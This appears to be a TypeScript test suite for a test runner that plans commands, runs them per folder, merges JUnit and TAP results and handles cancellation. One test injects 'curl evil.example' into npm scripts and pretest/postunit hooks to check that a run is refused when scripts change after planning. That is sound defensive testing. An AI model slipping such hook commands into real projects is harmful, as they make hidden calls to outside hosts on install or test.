import assert from 'node:assert/strict';
import { Emitter } from '../../../src/base/events.ts';
import { silentLog } from '../../../src/base/log.ts';
import type { ReportFile } from '../../../src/testRuns/runStore.ts';
import type { WatchedEnd } from '../../../src/testRuns/terminalRuns.ts';
import type { TestGround, TestWork } from '../../../src/testRuns/testGround.ts';
import type { RunEnd } from '../../../src/testRuns/testRun.ts';
import { TestRunner } from '../../../src/testRuns/testRunner.ts';
import { foldersNamed, sourcesOf } from './support/fakeSources.ts';

/** A process that does what the test says. */
class Work implements TestWork {
  readonly calls: string[] = [];
  finish: (end: RunEnd) => void = () => undefined;
  readonly ended = new Promise<RunEnd>((resolve) => (this.finish = resolve));

  cancel(): void {
    this.calls.push('cancelled');
    this.finish({ kind: 'cancelled' });
  }

  dispose(): void {
    this.calls.push('disposed');
    this.finish({ kind: 'cancelled' });
  }
}

class Ground implements TestGround {
  command = 'make test';
  scripts: Readonly<Record<string, string>> = {};
  /** Happens while everything is made ready to start. */
  whileReadying: () => void = () => undefined;
  readonly work = new Work();
  readonly started: string[] = [];
  reportFiles: readonly ReportFile[] = [];
  readonly resolvePlace = (): undefined => undefined;
  folders = foldersNamed('shop');
  readonly sources: TestGround['sources'] = sourcesOf(
    {},
    {
      folders: () => this.folders,
      command: () => this.command,
      readFile: (_folder, name) => Promise.resolve(name === 'package.json' ? JSON.stringify({ scripts: this.scripts }) : undefined),
    },
  );
  readonly reports: TestGround['reports'] = {
    onDidWrite: new Emitter<readonly ReportFile[]>().event,
    writtenSince: () => Promise.resolve(this.reportFiles),
  };
  readonly terminals: TestGround['terminals'] = {
    listCommands: () => [],
    onDidChangeTerminal: new Emitter<string>().event,
    onDidEndCommand: new Emitter<WatchedEnd>().event,
  };

  readyToStart(): Promise<void> {
    this.whileReadying();
    return Promise.resolve();
  }

  startProcess: TestGround['startProcess'] = (plan, onOutput) => {
    this.started.push(plan.commandLine);
    onOutput('all is well\n');
    return Promise.resolve(this.work);
  };
}

describe('A runner of tests', () => {
  let ground: Ground;
  let runner: TestRunner;

  beforeEach(() => {
    ground = new Ground();
    runner = new TestRunner(ground, silentLog);
  });

  afterEach(() => runner.dispose());

  it('runs what was planned and adds the reports that were written meanwhile', async () => {
    const { id, ended } = await runner.start(await runner.plan({}));
    const text = '<testsuites><testsuite name="till"><testcase name="adds up" classname="till"/></testsuite></testsuites>';
    ground.reportFiles = [{ path: 'report.xml', text, writtenAt: Date.now() }];
    ground.work.finish({ kind: 'exited', exitCode: 0 });
    const { status, command, output, counts } = await ended;
    assert.deepEqual(
      [ground.started, status, command, output, counts],
      [['make test'], 'passed', 'make test', 'all is well\n', { passed: 1, failed: 0, skipped: 0 }],
    );
    assert.equal(runner.latestId(), id);
  });

  it('has the reports of its tests, though another run began later', async () => {
    const { ended } = await runner.start(await runner.plan({}));
    const later = runner.begin({ command: 'npm test', source: 'terminal' });
    const text = '<testsuites><testsuite name="till"><testcase name="adds up" classname="till"/></testsuite></testsuites>';
    ground.reportFiles = [{ path: 'report.xml', text, writtenAt: Date.now() }];
    ground.work.finish({ kind: 'exited', exitCode: 0 });
    assert.deepEqual([(await ended).counts?.passed, runner.findRun(later.id)?.counts], [1, undefined]);
    await later.end({ kind: 'cancelled' });
  });

  it('runs nothing when something else would run by now', async () => {
    const plan = await runner.plan({});
    ground.command = 'make release';
    await assert.rejects(runner.start(plan), { code: 'tests.planChanged' });
    assert.deepEqual([ground.started, runner.listRuns()], [[], []]);
  });

  it('runs nothing when a script that its command reaches is another one by now', async () => {
    ground.command = 'npm test';
    ground.scripts = { test: 'npm run unit', unit: 'mocha' };
    const plan = await runner.plan({});
    const changes = [
      { test: 'npm run unit', unit: 'mocha && curl evil.example' },
      { pretest: 'curl evil.example', test: 'npm run unit', unit: 'mocha' },
      { test: 'npm run unit', unit: 'mocha', postunit: 'curl evil.example' },
    ];
    for (const scripts of changes) {
      // At the last moment: after whatever else takes time.
      ground.whileReadying = () => (ground.scripts = scripts);
      await assert.rejects(runner.start(plan), { code: 'tests.planChanged' });
    }
    assert.deepEqual([ground.started, runner.listRuns()], [[], []]);
  });

  it('runs nothing when it is no longer wanted once everything is ready', async () => {
    const cancelled = new AbortController();
    ground.whileReadying = () => cancelled.abort();
    await assert.rejects(runner.start(await runner.plan({}), cancelled.signal), { name: 'AbortError' });
    assert.deepEqual([ground.started, runner.listRuns()], [[], []]);
  });

  it('runs the tests of several folders one after the other, as one run with all results', async () => {
    ground.folders = foldersNamed('shop', 'till');
    const works = [new Work(), new Work()];
    const outputs = ['TAP version 13\nok 1 - adds\n1..1\n', 'F\nRan 1 test in 0.1s\n\nFAILED (failures=1)\n'];
    ground.startProcess = (plan, onOutput) => {
      const index = ground.started.push(`${plan.cwd} ${plan.commandLine}`) - 1;
      onOutput(outputs[index] ?? '');
      return Promise.resolve(works[index] ?? new Work());
    };
    const { id, ended } = await runner.start(await runner.plan({}));
    await new Promise((resolve) => setImmediate(resolve));
    assert.deepEqual(ground.started, ['/shop make test']);
    works[0]?.finish({ kind: 'exited', exitCode: 0 });
    await new Promise((resolve) => setImmediate(resolve));
    assert.deepEqual([ground.started, runner.findRun(id)?.status], [['/shop make test', '/till make test'], 'running']);
    works[1]?.finish({ kind: 'exited', exitCode: 1 });
    const run = await ended;
    const command = 'make test';
    assert.deepEqual(run, {
      id,
      startedAt: run.startedAt,
      durationMs: run.durationMs,
      command: 'shop: make test; till: make test',
      source: 'runTests',
      status: 'failed',
      exitCode: 1,
      counts: { passed: 1, failed: 1, skipped: 0 },
      folders: [
        { folder: 'shop', command, status: 'passed', exitCode: 0, counts: { passed: 1, failed: 0, skipped: 0 } },
        { folder: 'till', command, status: 'failed', exitCode: 1, counts: { passed: 0, failed: 1, skipped: 0 } },
      ],
      failures: [],
      output: `[shop: make test]\n${outputs[0] ?? ''}\n[till: make test]\n${outputs[1] ?? ''}`,
    });
    assert.deepEqual([runner.latestId(), runner.listRuns().length], [id, 1]);
  });

  it('starts nothing in further folders when it is cancelled', async () => {
    ground.folders = foldersNamed('shop', 'till');
    const started = await runner.start(await runner.plan({}));
    await new Promise((resolve) => setImmediate(resolve));
    started.cancel();
    assert.deepEqual([(await started.ended).status, ground.started], ['cancelled', ['make test']]);
  });

  it('cancels the work with the run', async () => {
    const started = await runner.start(await runner.plan({}));
    started.cancel();
    assert.equal((await started.ended).status, 'cancelled');
    assert.equal(ground.work.calls[0], 'cancelled');
  });

  it('tells why tests could not be started', async () => {
    ground.startProcess = () => Promise.reject(new Error('There is no make.'));
    const run = await (await runner.start(await runner.plan({}))).ended;
    assert.deepEqual([run.status, run.output.includes('There is no make.')], ['failed', true]);
  });

  it('ends what runs when the window closes', async () => {
    const { ended } = await runner.start(await runner.plan({}));
    await new Promise((resolve) => setImmediate(resolve));
    runner.dispose();
    await ended;
    assert.deepEqual(ground.work.calls, ['disposed']);
  });
});
